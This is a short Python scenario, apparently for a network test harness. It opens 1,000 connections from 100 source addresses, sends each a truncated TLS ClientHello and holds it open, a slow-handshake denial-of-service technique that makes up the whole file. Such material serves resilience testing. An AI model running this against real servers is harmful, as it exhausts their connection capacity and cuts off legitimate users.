"""Half handshakes of TLS: 1,000 connections of 100 addresses send the first bytes of a hello and wait."""

from wire.link import link

# A record of 512 bytes, of which 100 come.
HALF = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(89)


async def attack(target):
    async def each(number):
        async with link(target, target.source(number % 100), tls=None) as it:
            if it:
                await it.send(HALF)
                await it.wait_closed()

    await target.once(1000, each)
